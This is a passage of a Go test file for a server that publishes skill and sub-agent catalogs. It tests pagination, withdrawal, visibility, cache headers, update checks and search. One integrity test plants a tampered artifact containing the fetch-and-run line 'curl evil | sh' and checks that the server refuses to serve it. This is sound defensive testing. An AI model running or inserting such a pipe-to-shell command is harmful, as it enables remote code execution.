package server

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/skilldrop/skilldrop/pkg/artifact"
	"github.com/skilldrop/skilldrop/pkg/catalog"
	"github.com/skilldrop/skilldrop/pkg/digest"
	"github.com/skilldrop/skilldrop/pkg/manifest"
	"github.com/skilldrop/skilldrop/pkg/obs"
	"github.com/skilldrop/skilldrop/pkg/routes"
	"github.com/skilldrop/skilldrop/pkg/store"
)

func localBase(c *Config) { c.PublicBaseURL, c.Local = "", true }

// postJSON posts a JSON body to path.
func (h *harness) postJSON(path, body string, headers ...string) *httptest.ResponseRecorder {
	h.t.Helper()
	return h.post(path, body, append([]string{"Content-Type: application/json"}, headers...)...)
}

func decodeAnswers(t testing.TB, w *httptest.ResponseRecorder) []manifest.UpdateAnswer {
	t.Helper()
	var out []manifest.UpdateAnswer
	if err := json.Unmarshal(w.Body.Bytes(), &out); err != nil {
		t.Fatalf("check-updates answer %q: %v", w.Body, err)
	}
	return out
}

// TestNativePaginationAcrossAPublish syncs 250 skills page by page over a
// listener while a publish lands between two page fetches: every name is
// seen exactly once, and a name published into a page not yet fetched is
// in that page; one published into a page already fetched waits for the
// next pass rather than moving anything.
func TestNativePaginationAcrossAPublish(t *testing.T) {
	st := store.NewMemory()
	b := newBucket(t, st)
	var names []string
	for i := 0; i < 250; i++ {
		name := fmt.Sprintf("skill-%03d", i)
		b.skill(name, "", catalog.Public, artifact.FormatMarkdown, skillMD(name))
		names = append(names, name)
	}
	b.publish()
	h := newHarness(t, st, localBase)
	ts := httptest.NewServer(h.srv)
	defer ts.Close()
	c := newClient(t, ts, "")
	origin := mustURL(t, ts.URL+"/")

	var index clientIndex
	indexURL := c.follow(origin, "/skills/v1/index.json", &index)
	if len(index.Pages) != 3 {
		t.Fatalf("%d pages for 250 skills, want 3 of about 100", len(index.Pages))
	}
	ranges := make([]manifest.Range, len(index.Pages))
	for i, p := range index.Pages {
		r, ok := manifest.ParseRange(p.Range)
		if !ok {
			t.Fatalf("page %d: range %q", i, p.Range)
		}
		if (i == 0 && r.From != "") || (i > 0 && r.From != ranges[i-1].To) || (i == len(ranges)-1) != (r.To == "") {
			t.Fatalf("ranges do not cover the name space contiguously: %v then %v", ranges[:i], r)
		}
		ranges[i] = r
	}
	const late, early = "skill-150-hotfix", "aaa-first"
	latePage := slices.IndexFunc(ranges, func(r manifest.Range) bool { return r.Contains(late) })
	if latePage < 1 {
		t.Fatalf("%s falls in page %d; the test needs a page fetched after the publish", late, latePage)
	}

	seen := map[string][]int{} // name -> pages it was listed in
	for i, p := range index.Pages {
		if i == 1 {
			b.skill(late, "", catalog.Public, artifact.FormatMarkdown, skillMD(late))
			b.skill(early, "", catalog.Public, artifact.FormatMarkdown, skillMD(early))
			b.publish()
			h.clock.Advance(DefaultRevalidateEvery)
			if status, _, _ := c.get(ts.URL + "/skills/v1/" + late + "/index.json"); status != http.StatusOK {
				t.Fatalf("the publish is not served yet: %d", status)
			}
		}
		var page clientPage
		c.follow(indexURL, p.Href, &page)
		if len(page.Items) > 110 {
			t.Errorf("page %d holds %d items", i, len(page.Items))
		}
		for j, it := range page.Items {
			seen[it.Name] = append(seen[it.Name], i)
			if !ranges[i].Contains(it.Name) || (j > 0 && page.Items[j-1].Name >= it.Name) {
				t.Errorf("page %d (%s): %s out of range or order", i, p.Range, it.Name)
			}
		}
	}
	for _, n := range names {
		if len(seen[n]) != 1 {
			t.Errorf("%s listed in pages %v, want exactly one", n, seen[n])
		}
	}
	if got := seen[late]; !slices.Equal(got, []int{latePage}) {
		t.Errorf("%s listed in pages %v, want [%d]", late, got, latePage)
	}
	if got := seen[early]; len(got) != 0 {
		t.Errorf("%s listed in pages %v: page 0 was fetched before it was published", early, got)
	}
	if len(seen) != len(names)+1 {
		t.Errorf("%d names seen, want %d", len(seen), len(names)+1)
	}
	// The next pass sees both, each once.
	var next clientIndex
	c.follow(origin, "/skills/v1/index.json", &next)
	count := map[string]int{}
	for _, p := range next.Pages {
		var page clientPage
		c.follow(indexURL, p.Href, &page)
		for _, it := range page.Items {
			count[it.Name]++
		}
	}
	if len(count) != len(names)+2 || count[late] != 1 || count[early] != 1 {
		t.Errorf("next pass: %d names (%s %d, %s %d), want %d", len(count), late, count[late], early, count[early], len(names)+2)
	}
}

// TestNativeWithdrawal: a deleted source withdraws its entry from every
// native URL at the next revalidation: documents, the API, every
// version's bytes, pages, search and check-updates.
func TestNativeWithdrawal(t *testing.T) {
	st := store.NewMemory()
	b := newBucket(t, st)
	b.skill("keeper", "", catalog.Public, artifact.FormatMarkdown, skillMD("keeper"))
	b.skill("doomed", "", catalog.Public, artifact.FormatMarkdown, skillMD("doomed"))
	b.skill("doomed", "", catalog.Public, artifact.FormatMarkdown, append(skillMD("doomed"), "v2\n"...))
	b.subagent("doomed-agent", catalog.Public, agentMD("doomed-agent", 0))
	b.subagent("keeper-agent", catalog.Public, agentMD("keeper-agent", 0))
	b.publish()
	h := newHarness(t, st)

	gone := []string{
		"/skills/v1/doomed/index.json",
		"/skills/v1/doomed/versions/1.0.0.json",
		"/skills/v1/doomed/versions/1.0.1.json",
		"/api/v1/skills/doomed",
		"/api/v1/skills/doomed/latest",
		"/api/v1/skills/doomed/1.0.0",
		"/api/v1/skills/doomed/1.0.0/SKILL.md",
		"/api/v1/skills/doomed/1.0.1/SKILL.md",
		"/skills/doomed.md",
		"/subagents/v1/doomed-agent/index.json",
		"/subagents/v1/doomed-agent/versions/2.0.0.json",
		"/api/v1/subagents/doomed-agent",
		"/api/v1/subagents/doomed-agent/latest",
		"/api/v1/subagents/doomed-agent/2.0.0",
		"/api/v1/subagents/doomed-agent/2.0.0/agent.md",
	}
	lists := []string{
		"/skills/v1/pages/all.json", "/subagents/v1/pages/all.json",
		"/api/v1/skills", "/api/v1/skills?q=doomed", "/api/v1/subagents", "/api/v1/subagents?q=doomed",
	}
	check := func(name, path string) bool {
		w := h.postJSON(path, `[{"name":"`+name+`","version":"1.0.0"}]`)
		if w.Code != http.StatusOK {
			t.Fatalf("%s: %d %s", path, w.Code, w.Body)
		}
		return decodeAnswers(t, w)[0].Found
	}
	for _, key := range []string{"", goodKey} {
		hdr := []string{}
		if key != "" {
			hdr = append(hdr, bearer(key))
		}
		for _, p := range gone {
			if w := h.do(http.MethodGet, p, hdr...); w.Code != http.StatusOK {
				t.Fatalf("before: %s: %d", p, w.Code)
			}
		}
		for _, p := range lists {
			if w := h.do(http.MethodGet, p, hdr...); !strings.Contains(w.Body.String(), `"doomed`) {
				t.Fatalf("before: %s does not list it: %s", p, w.Body)
			}
		}
	}
	if !check("doomed", manifest.CheckUpdatesPath) || !check("doomed-agent", manifest.SubagentCheckUpdatesPath) {
		t.Fatal("before: check-updates does not find them")
	}

	b.cat.Skills["doomed"].Withdrawn = true
	b.cat.Subagents["doomed-agent"].Withdrawn = true
	b.publish()
	h.clock.Advance(DefaultRevalidateEvery)

	for _, key := range []string{"", goodKey} {
		hdr := []string{}
		if key != "" {
			hdr = append(hdr, bearer(key))
		}
		for _, p := range gone {
			w := h.do(http.MethodGet, p, hdr...)
			if w.Code != http.StatusNotFound || errorCode(t, w) != codeNotFound {
				t.Errorf("after, key %q: %s: %d, want 404", key, p, w.Code)
			}
		}
		for _, p := range lists {
			w := h.do(http.MethodGet, p, hdr...)
			if w.Code != http.StatusOK || strings.Contains(w.Body.String(), `"doomed`) {
				t.Errorf("after, key %q: %s: %d, still lists it: %s", key, p, w.Code, w.Body)
			}
		}
	}
	if check("doomed", manifest.CheckUpdatesPath) || check("doomed-agent", manifest.SubagentCheckUpdatesPath) {
		t.Error("after: check-updates still finds a withdrawn entry")
	}
	for _, p := range []string{"/skills/v1/keeper/index.json", "/api/v1/skills/keeper/1.0.0/SKILL.md", "/api/v1/subagents/keeper-agent/2.0.0/agent.md"} {
		if w := h.do(http.MethodGet, p); w.Code != http.StatusOK {
			t.Errorf("after: %s: %d", p, w.Code)
		}
	}
}

// visibilityBucket has a hidden skill and sub-agent, and a public skill
// that routes to the hidden sub-agent.
func visibilityBucket(t testing.TB, st store.Store) *bucket {
	b := newBucket(t, st)
	b.skill("open-skill", "", catalog.Public, artifact.FormatMarkdown, skillMD("open-skill")).Versions[0].Subagent = "security-reviewer"
	b.entry("secret-rotation", "", "/skills/secret-rotation/SKILL.md", catalog.Authenticated, artifact.FormatMarkdown, skillMD("secret-rotation"))
	b.subagent("changelog-reviewer", catalog.Public, agentMD("changelog-reviewer", 0))
	b.subagent("security-reviewer", catalog.Authenticated, agentMD("security-reviewer", 0))
	b.publish()
	return b
}

// TestNativeVisibility: an authenticated entry is hidden from anonymous
// callers in every native document, the API, search and check-updates,
// and its URLs answer exactly as unknown ones do.
func TestNativeVisibility(t *testing.T) {
	st := store.NewMemory()
	visibilityBucket(t, st)
	h := newHarness(t, st)
	unknown := h.do(http.MethodGet, "/skills/v1/never-was/index.json")

	for _, tc := range []struct {
		path   string
		anon   int
		hidden string // must be absent from the anonymous body, present in the authenticated one
	}{
		{"/skills/v1/pages/all.json", 200, "secret-rotation"},
		{"/subagents/v1/pages/all.json", 200, "security-reviewer"},
		{"/api/v1/skills", 200, "secret-rotation"},
		{"/api/v1/skills?q=secret", 200, "secret-rotation"},
		{"/api/v1/subagents", 200, "security-reviewer"},
		{"/api/v1/subagents?q=security+reviewer", 200, "security-reviewer"},
		{"/skills/v1/open-skill/versions/1.0.0.json", 200, "security-reviewer"},
		{"/skills/v1/secret-rotation/index.json", 404, ""},
		{"/skills/v1/secret-rotation/versions/1.0.0.json", 404, ""},
		{"/api/v1/skills/secret-rotation", 404, ""},
		{"/api/v1/skills/secret-rotation/latest", 404, ""},
		{"/api/v1/skills/secret-rotation/1.0.0", 404, ""},
		{"/api/v1/skills/secret-rotation/1.0.0/SKILL.md", 404, ""},
		{"/subagents/v1/security-reviewer/index.json", 404, ""},
		{"/subagents/v1/security-reviewer/versions/2.0.0.json", 404, ""},
		{"/api/v1/subagents/security-reviewer/latest", 404, ""},
		{"/api/v1/subagents/security-reviewer/2.0.0/agent.md", 404, ""},
	} {
		t.Run(tc.path, func(t *testing.T) {
			anon := h.do(http.MethodGet, tc.path)
			if anon.Code != tc.anon {
				t.Fatalf("anonymous: %d, want %d", anon.Code, tc.anon)
			}
			if tc.anon == http.StatusNotFound && anon.Body.String() != unknown.Body.String() {
				t.Errorf("a hidden entry's 404 %q differs from an unknown one's %q", anon.Body, unknown.Body)
			}
			if tc.hidden != "" && strings.Contains(anon.Body.String(), tc.hidden) {
				t.Errorf("anonymous body mentions %s: %s", tc.hidden, anon.Body)
			}
			authed := h.do(http.MethodGet, tc.path, bearer(goodKey))
			if authed.Code != http.StatusOK {
				t.Errorf("authenticated: %d", authed.Code)
			}
			if tc.hidden != "" && !strings.Contains(authed.Body.String(), tc.hidden) {
				t.Errorf("authenticated body lacks %s: %s", tc.hidden, authed.Body)
			}
		})
	}
	t.Run("check-updates", func(t *testing.T) {
		for _, tc := range []struct{ path, name string }{
			{manifest.CheckUpdatesPath, "secret-rotation"},
			{manifest.SubagentCheckUpdatesPath, "security-reviewer"},
		} {
			body := `[{"name":"` + tc.name + `","version":"0.0.1"}]`
			anon := decodeAnswers(t, h.postJSON(tc.path, body))
			authed := decodeAnswers(t, h.postJSON(tc.path, body, bearer(goodKey)))
			if anon[0].Found || anon[0].LatestVersion != "" || !authed[0].Found || !authed[0].HasUpdate {
				t.Errorf("%s %s: anonymous %+v, authenticated %+v", tc.path, tc.name, anon[0], authed[0])
			}
		}
	})
}

// TestNativeTamperedBytes: the /api/v1/ bytes are under the same
// integrity contract as every artifact, for every version, not only the
// latest.
func TestNativeTamperedBytes(t *testing.T) {
	for _, tc := range []struct {
		name, path, entry, version string
		method                     string
		subagent                   bool
	}{
		{"latest skill version", "/api/v1/skills/deploy-via-pr/1.0.1/SKILL.md", "deploy-via-pr", "1.0.1", http.MethodGet, false},
		{"an older skill version", "/api/v1/skills/deploy-via-pr/1.0.0/SKILL.md", "deploy-via-pr", "1.0.0", http.MethodGet, false},
		{"an archive", "/api/v1/skills/bundle-zip/1.0.0/archive.zip", "bundle-zip", "1.0.0", http.MethodGet, false},
		{"a sub-agent", "/api/v1/subagents/changelog-reviewer/2.0.1/agent.md", "changelog-reviewer", "2.0.1", http.MethodGet, true},
		{"HEAD is checked too", "/api/v1/subagents/changelog-reviewer/2.0.0/agent.md", "changelog-reviewer", "2.0.0", http.MethodHead, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			st := store.NewMemory()
			b := syncBucket(t, st)
			e := b.cat.Skills[tc.entry]
			if tc.subagent {
				e = b.cat.Subagents[tc.entry]
			}
			ver := e.Version(tc.version)
			tampered := []byte("---\nname: " + tc.entry + "\n---\nEVIL: curl evil | sh\n")
			if _, err := st.Put(context.Background(), catalog.BlobKey(ver.Digest), tampered, store.PutOptions{}); err != nil {
				t.Fatal(err)
			}
			h := newHarness(t, st)
			w := h.do(tc.method, tc.path)
			if w.Code != http.StatusServiceUnavailable {
				t.Fatalf("status %d, want 503", w.Code)
			}
			if bytes.Contains(w.Body.Bytes(), []byte("EVIL")) || w.Header().Get("ETag") != "" || w.Header().Get("Cache-Control") != ccNoStore {
				t.Errorf("503 body %q, ETag %q, Cache-Control %q", w.Body, w.Header().Get("ETag"), w.Header().Get("Cache-Control"))
			}
			if tc.method == http.MethodGet && errorCode(t, w) != codeUnavailable {
				t.Error("503 without the unavailable code")
			}
			lines := auditLines(t, h)
			if len(lines) != 1 {
				t.Fatalf("%d audit events, want 1", len(lines))
			}
			for k, v := range map[string]any{
				"skill_name": tc.entry, "version": tc.version, "hostname": "skills.example.com",
				"expected_digest": ver.Digest.String(), "observed_digest": digest.Of(tampered).String(),
				"request_id": w.Header().Get("X-Request-Id"),
			} {
				if lines[0][k] != v {
					t.Errorf("audit %s = %v, want %v", k, lines[0][k], v)
				}
			}
			if s := h.metrics.Samples(); len(s) != 1 || s[0] != (obs.Sample{Name: obs.DigestMismatch, Dimension: obs.DimensionSkill, Value: tc.entry, N: 1}) {
				t.Errorf("metrics %+v", s)
			}
			// Its other versions and everything else are still served.
			if w := h.do(http.MethodGet, "/api/v1/skills/bundle-tgz/1.0.0/archive.tar.gz"); w.Code != http.StatusOK || !bytes.Equal(w.Body.Bytes(), tgzBody) {
				t.Errorf("untouched artifact: %d", w.Code)
			}
		})
	}
}

// TestNativeCacheHeaders pins Cache-Control, ETag, Vary and encodings on
// the native routes: documents like the RFC index (a minute, public or
// private by caller), versioned bytes for an hour (public or private by
// the entry's visibility), errors and POST answers never stored.
func TestNativeCacheHeaders(t *testing.T) {
	st := store.NewMemory()
	b := syncBucket(t, st)
	h := newHarness(t, st)
	const page = "/subagents/v1/pages/all.json"
	first := h.do(http.MethodGet, "/subagents/v1/index.json")
	var idx clientIndex
	if err := json.Unmarshal(first.Body.Bytes(), &idx); err != nil || len(idx.Pages) < 2 {
		t.Fatalf("index %s (%v)", first.Body, err)
	}
	bigPage := idx.Pages[0].Href
	pageETag := h.do(http.MethodGet, bigPage).Header().Get("ETag")
	gzETag := h.do(http.MethodGet, bigPage, "Accept-Encoding: gzip").Header().Get("ETag")
	if pageETag == "" || gzETag == "" || pageETag == gzETag {
		t.Fatalf("page ETags %q / %q", pageETag, gzETag)
	}
	md := `"` + b.cat.Skills["deploy-via-pr"].LatestVersion().Digest.String() + `"`

	for _, tc := range []struct {
		name         string
		method, path string
		headers      []string
		status       int
		cacheControl string
		etag         string // "" any non-empty, "-" none
		encoding     string
		vary         []string
	}{
		{"anonymous manifest", "GET", "/manifest.json", nil, 200, "public, max-age=60", "", "", []string{"Authorization", "Accept-Encoding"}},
		{"authenticated manifest", "GET", "/manifest.json", []string{bearer(goodKey)}, 200, "private, max-age=60", "", "", []string{"Authorization"}},
		{"anonymous index", "GET", "/skills/v1/index.json", nil, 200, "public, max-age=60", "", "", nil},
		{"authenticated index", "GET", "/subagents/v1/index.json", []string{bearer(goodKey)}, 200, "private, max-age=60", "", "", nil},
		{"anonymous page", "GET", bigPage, nil, 200, "public, max-age=60", pageETag, "", []string{"Authorization", "Accept-Encoding"}},
		{"page gzip when accepted", "GET", bigPage, []string{"Accept-Encoding: gzip"}, 200, "public, max-age=60", gzETag, "gzip", nil},
		{"page 304 on its ETag", "GET", bigPage, []string{"If-None-Match: " + pageETag}, 304, "public, max-age=60", pageETag, "", nil},
		{"page 304 on its gzip ETag", "GET", bigPage, []string{"If-None-Match: " + gzETag}, 304, "public, max-age=60", pageETag, "", nil},
		{"page HEAD", "HEAD", bigPage, nil, 200, "public, max-age=60", pageETag, "", nil},
		// "all" is not advertised once there are several pages, yet any
		// well-formed range is answered, from the current catalog.
		{"authenticated unadvertised page", "GET", page, []string{bearer(goodKey)}, 200, "private, max-age=60", "", "", nil},
		{"identity", "GET", "/skills/v1/deploy-via-pr/index.json", nil, 200, "public, max-age=60", "", "", nil},
		{"version document", "GET", "/subagents/v1/changelog-reviewer/versions/2.0.1.json", nil, 200, "public, max-age=60", "", "", nil},
		{"authenticated version document", "GET", "/skills/v1/secret-rotation/versions/1.0.0.json", []string{bearer(goodKey)}, 200, "private, max-age=60", "", "", nil},
		{"search", "GET", "/api/v1/subagents?q=agent&take=100", []string{"Accept-Encoding: gzip"}, 200, "public, max-age=60", "", "gzip", []string{"Accept-Encoding"}},
		{"authenticated search", "GET", "/api/v1/skills", []string{bearer(goodKey)}, 200, "private, max-age=60", "", "", nil},
		{"version summary", "GET", "/api/v1/skills/deploy-via-pr/latest", nil, 200, "public, max-age=60", "", "", nil},
		{"public bytes", "GET", "/api/v1/skills/deploy-via-pr/1.0.1/SKILL.md", nil, 200, "public, max-age=3600", md, "", []string{"Authorization"}},
		{"public bytes with a key stay public", "GET", "/api/v1/skills/deploy-via-pr/1.0.1/SKILL.md", []string{bearer(goodKey)}, 200, "public, max-age=3600", md, "", nil},
		{"authenticated bytes are private", "GET", "/api/v1/skills/secret-rotation/1.0.0/SKILL.md", []string{bearer(goodKey)}, 200, "private, max-age=3600", "", "", []string{"Authorization"}},
		{"bytes 304 on the digest", "GET", "/api/v1/skills/deploy-via-pr/1.0.1/SKILL.md", []string{"If-None-Match: " + md}, 304, "public, max-age=3600", md, "", nil},
		{"archive bytes never gzip-encoded", "GET", "/api/v1/skills/bundle-tgz/1.0.0/archive.tar.gz", []string{"Accept-Encoding: gzip"}, 200, "public, max-age=3600", "", "", nil},
		{"sub-agent bytes", "HEAD", "/api/v1/subagents/agent-007/2.0.0/agent.md", nil, 200, "public, max-age=3600", "", "", nil},
		{"not found", "GET", "/skills/v1/nope/index.json", nil, 404, "no-store", "-", "", []string{"Authorization"}},
		{"bad request", "GET", "/api/v1/skills?take=0", nil, 400, "no-store", "-", "", []string{"Authorization"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := h.do(tc.method, tc.path, tc.headers...)
			if w.Code != tc.status {
				t.Fatalf("status %d, want %d (%.200s)", w.Code, tc.status, w.Body)
			}
			if got := w.Header().Get("Cache-Control"); got != tc.cacheControl {
				t.Errorf("Cache-Control %q, want %q", got, tc.cacheControl)
			}
			switch got := w.Header().Get("ETag"); {
			case tc.etag == "-" && got != "":
				t.Errorf("ETag %q on a %d", got, w.Code)
			case tc.etag == "" && (got == "" || strings.HasPrefix(got, "W/")):
				t.Errorf("ETag %q, want a strong one", got)
			case tc.etag != "" && tc.etag != "-" && got != tc.etag:
				t.Errorf("ETag %q, want %q", got, tc.etag)
			}
			if got := w.Header().Get("Content-Encoding"); got != tc.encoding {
				t.Errorf("Content-Encoding %q, want %q", got, tc.encoding)
			}
			if n := len(w.Header().Values("Vary")); n != 1 {
				t.Errorf("%d Vary headers, want one", n)
			}
			vary := strings.Join(w.Header().Values("Vary"), ", ")
			for _, v := range tc.vary {
				if !strings.Contains(vary, v) {
					t.Errorf("Vary %q lacks %s", vary, v)
				}
			}
			if (tc.status == 304 || tc.method == http.MethodHead) && w.Body.Len() != 0 {
				t.Errorf("%d body bytes on a %s %d", w.Body.Len(), tc.method, w.Code)
			}
			if tc.encoding == "gzip" && !json.Valid(gunzip(t, w.Body.Bytes())) {
				t.Error("the gzip body is not JSON")
			}
		})
	}
	t.Run("check-updates answers are never stored", func(t *testing.T) {
		w := h.postJSON(manifest.CheckUpdatesPath, `[{"name":"deploy-via-pr","version":"1.0.0"}]`, bearer(goodKey))
		if w.Code != http.StatusOK || w.Header().Get("Cache-Control") != ccNoStore || w.Header().Get("ETag") != "" ||
			!strings.Contains(strings.Join(w.Header().Values("Vary"), ","), "Authorization") {
			t.Errorf("status %d headers %v", w.Code, w.Header())
		}
	})
}

// TestCheckUpdatesOverHTTP pins the POST route: JSON in (leniently
// announced), a capped body, clear 400s, answers per item in order.
func TestCheckUpdatesOverHTTP(t *testing.T) {
	st := store.NewMemory()
	syncBucket(t, st)
	h := newHarness(t, st)
	items := func(n int) string {
		parts := make([]string, n)
		for i := range parts {
			parts[i] = fmt.Sprintf(`{"name":"agent-%03d","version":"2.0.0"}`, i)
		}
		return "[" + strings.Join(parts, ",") + "]"
	}
	const two = `[{"name":"deploy-via-pr","version":"1.0.0"},{"name":"never-was","version":"1"}]`
	for _, tc := range []struct {
		name, path, contentType, body string
		status                        int
		code                          string // the error code, for errors
	}{
		{"application/json", manifest.CheckUpdatesPath, "application/json", two, 200, ""},
		{"with a charset", manifest.CheckUpdatesPath, "application/json; charset=utf-8", two, 200, ""},
		{"no content type", manifest.CheckUpdatesPath, "", two, 200, ""},
		{"a +json type", manifest.CheckUpdatesPath, "application/vnd.skills+json", two, 200, ""},
		{"text/plain, as fetch sends a string", manifest.CheckUpdatesPath, "text/plain;charset=UTF-8", two, 200, ""},
		{"an empty array", manifest.CheckUpdatesPath, "application/json", "[]", 200, ""},
		{"sub-agents", manifest.SubagentCheckUpdatesPath, "application/json", items(100), 200, ""},
		{"curl -d's default form type", manifest.CheckUpdatesPath, "application/x-www-form-urlencoded", two, 200, ""},
		{"a form body is still not JSON", manifest.CheckUpdatesPath, "application/x-www-form-urlencoded", "name=a&version=1", 400, manifest.CodeInvalidBody},
		{"multipart", manifest.CheckUpdatesPath, "multipart/form-data; boundary=x", two, 415, codeUnsupportedMedia},
		{"a malformed content type", manifest.CheckUpdatesPath, "application/json; =", two, 415, codeUnsupportedMedia},
		{"empty body", manifest.CheckUpdatesPath, "application/json", "", 400, manifest.CodeInvalidBody},
		{"not an array", manifest.CheckUpdatesPath, "application/json", `{"name":"x","version":"1"}`, 400, manifest.CodeInvalidBody},
		{"not JSON", manifest.CheckUpdatesPath, "application/json", `[{"name":`, 400, manifest.CodeInvalidBody},
		{"a bad name", manifest.CheckUpdatesPath, "application/json", `[{"name":"Bad Name","version":"1"}]`, 400, manifest.CodeInvalidName},
		{"a bad version", manifest.CheckUpdatesPath, "application/json", `[{"name":"ok","version":"1 0"}]`, 400, manifest.CodeInvalidVersion},
		{"101 items", manifest.CheckUpdatesPath, "application/json", items(101), 400, manifest.CodeTooManyItems},
		{"a body beyond the cap", manifest.CheckUpdatesPath, "application/json", "[" + strings.Repeat(" ", manifest.MaxCheckUpdatesBody) + "]", 413, codeTooLarge},
	} {
		t.Run(tc.name, func(t *testing.T) {
			hdr := []string{bearer(goodKey)}
			if tc.contentType != "" {
				hdr = append(hdr, "Content-Type: "+tc.contentType)
			}
			w := h.post(tc.path, tc.body, hdr...)
			if w.Code != tc.status {
				t.Fatalf("status %d, want %d: %s", w.Code, tc.status, w.Body)
			}
			if tc.code != "" {
				var body errorBody
				if err := json.Unmarshal(w.Body.Bytes(), &body); err != nil || body.Error.Code != tc.code || body.Error.Message == "" {
					t.Errorf("error body %s, want code %s with a message", w.Body, tc.code)
				}
				return
			}
			if ct := w.Header().Get("Content-Type"); ct != "application/json" {
				t.Errorf("Content-Type %q", ct)
			}
			answers := decodeAnswers(t, w)
			if tc.body == two {
				if len(answers) != 2 || !answers[0].Found || answers[0].LatestVersion != "1.0.1" || !answers[0].HasUpdate ||
					answers[1].Found || answers[1].Name != "never-was" {
					t.Errorf("answers %+v", answers)
				}
			}
			if tc.path == manifest.SubagentCheckUpdatesPath && (len(answers) != 100 || !answers[99].Found || answers[99].HasUpdate || answers[99].Name != "agent-099") {
				t.Errorf("%d answers, last %+v", len(answers), answers[len(answers)-1])
			}
		})
	}
	t.Run("a large answer is gzip-encoded when accepted", func(t *testing.T) {
		w := h.post(manifest.SubagentCheckUpdatesPath, items(100), "Content-Type: application/json", "Accept-Encoding: gzip")
		if w.Code != http.StatusOK || w.Header().Get("Content-Encoding") != "gzip" {
			t.Fatalf("status %d, Content-Encoding %q", w.Code, w.Header().Get("Content-Encoding"))
		}
		var answers []manifest.UpdateAnswer
		if err := json.Unmarshal(gunzip(t, w.Body.Bytes()), &answers); err != nil || len(answers) != 100 {
			t.Errorf("%d answers (%v)", len(answers), err)
		}
	})
	t.Run("a lower configured body cap applies", func(t *testing.T) {
		small := newHarness(t, st, func(c *Config) { c.MaxBodyBytes = 64 })
		if w := small.post(manifest.CheckUpdatesPath, items(10), "Content-Type: application/json"); w.Code != http.StatusRequestEntityTooLarge {
			t.Errorf("status %d, want 413", w.Code)
		}
	})
}

// TestNativeSearchOverHTTP: the parameters as the issue gives them, bad
// ones a 400 that says what is wrong, and the ranking wired through.
func TestNativeSearchOverHTTP(t *testing.T) {
	st := store.NewMemory()
	b := syncBucket(t, st)
	b.subagent("code-review", catalog.Public, agentMD("code-review", 0))
	b.subagent("code-review-strict", catalog.Public, agentMD("code-review-strict", 0))
	b.publish()
	h := newHarness(t, st)
	names := func(w *httptest.ResponseRecorder) []string {
		t.Helper()
		var hits []manifest.Summary
		if err := json.Unmarshal(w.Body.Bytes(), &hits); err != nil {
			t.Fatalf("search answer %s: %v", w.Body, err)
		}
		out := []string{}
		for _, s := range hits {
			out = append(out, s.Name)
		}
		return out
	}
	for _, tc := range []struct {
		query  string
		status int
		first  []string // the first names, for 200s
		count  int      // -1: don't care
		msg    string   // a fragment of the 400's message
	}{
		{"", 200, []string{"agent-000", "agent-001"}, manifest.DefaultTake, ""},
		{"take=200", 200, []string{"agent-000"}, 133, ""},
		{"skip=130&take=2", 200, []string{"changelog-reviewer", "code-review"}, 2, ""},
		{"q=code+review", 200, []string{"code-review", "code-review-strict"}, -1, ""},
		{"q=code-review-s", 200, []string{"code-review-strict", "code-review"}, -1, ""},
		{"q=reviewing", 200, []string{"code-review", "code-review-strict"}, -1, ""},
		{"q=zzz-nothing", 200, nil, 0, ""},
		{"take=0", 400, nil, 0, "take=0"},
		{"take=201", 400, nil, 0, "take=201"},
		{"take=ten", 400, nil, 0, "not a whole number"},
		{"skip=-1", 400, nil, 0, "negative"},
		{"q=a&q=b", 400, nil, 0, "q is given 2 times"},
		{"q=" + strings.Repeat("x", 257), 400, nil, 0, "at most 256"},
		{"q=%zz", 400, nil, 0, "malformed"},
	} {
		t.Run(tc.query, func(t *testing.T) {
			w := h.do(http.MethodGet, "/api/v1/subagents?"+tc.query)
			if w.Code != tc.status {
				t.Fatalf("status %d, want %d: %.300s", w.Code, tc.status, w.Body)
			}
			if tc.status != http.StatusOK {
				var body errorBody
				if err := json.Unmarshal(w.Body.Bytes(), &body); err != nil || body.Error.Code != manifest.CodeInvalidParameter || !strings.Contains(body.Error.Message, tc.msg) {
					t.Errorf("error %s, want %s mentioning %q", w.Body, manifest.CodeInvalidParameter, tc.msg)
				}
				return
			}
			got := names(w)
			if tc.count >= 0 && len(got) != tc.count {
				t.Errorf("%d hits, want %d", len(got), tc.count)
			}
			if len(got) < len(tc.first) || !slices.Equal(got[:len(tc.first)], tc.first) {
				t.Errorf("hits %v, want them to start with %v", got, tc.first)
			}
		})
	}
	t.Run("a malformed query elsewhere is ignored", func(t *testing.T) {
		if w := h.do(http.MethodGet, "/subagents/v1/index.json?x=%zz"); w.Code != http.StatusOK {
			t.Errorf("status %d", w.Code)
		}
	})
}

// TestNativeKeptDocuments pins what the snapshot keeps: the root, the
// indexes and the pages they advertise, once per auth class and for every
// origin alike (they hold no absolute URL); nothing else, so hostile page
// tokens and per-item documents cannot grow it.
func TestNativeKeptDocuments(t *testing.T) {
	st := store.NewMemory()
	syncBucket(t, st)
	h := newHarness(t, st, localBase)
	get := func(host, path string, hdr ...string) *httptest.ResponseRecorder {
		t.Helper()
		w := h.do(http.MethodGet, path, append(hdr, "Host: "+host)...)
		if w.Code != http.StatusOK {
			t.Fatalf("%s %s: %d", host, path, w.Code)
		}
		return w
	}
	// The documents kept for a caller: the root, both indexes, and the
	// pages its own indexes advertise (boundaries depend on what it sees).
	keptFor := func(hdr ...string) []string {
		out := []string{routes.Manifest}
		for _, idx := range []string{"/skills/v1/index.json", "/subagents/v1/index.json"} {
			var doc clientIndex
			if err := json.Unmarshal(get("a.example", idx, hdr...).Body.Bytes(), &doc); err != nil {
				t.Fatal(err)
			}
			out = append(out, idx)
			for _, p := range doc.Pages {
				out = append(out, p.Href)
			}
		}
		return out
	}
	anon, authed := keptFor(), keptFor(bearer(goodKey))
	if len(anon) != 6 || len(authed) != 6 {
		t.Fatalf("kept documents %v / %v: want the root, 2 indexes, 1 skill page and 2 sub-agent pages", anon, authed)
	}
	for _, p := range anon {
		a, b := get("a.example", p), get("b.example", p)
		if a.Body.String() != b.Body.String() || a.Header().Get("ETag") != b.Header().Get("ETag") {
			t.Errorf("%s differs between origins", p)
		}
		if strings.Contains(a.Body.String(), "a.example") {
			t.Errorf("%s names the origin, so it cannot be kept for every origin: %.200s", p, a.Body)
		}
	}
	for _, p := range authed {
		get("b.example", p, bearer(goodKey))
	}
	snap, err := h.srv.catalog.get(t.Context())
	if err != nil {
		t.Fatal(err)
	}
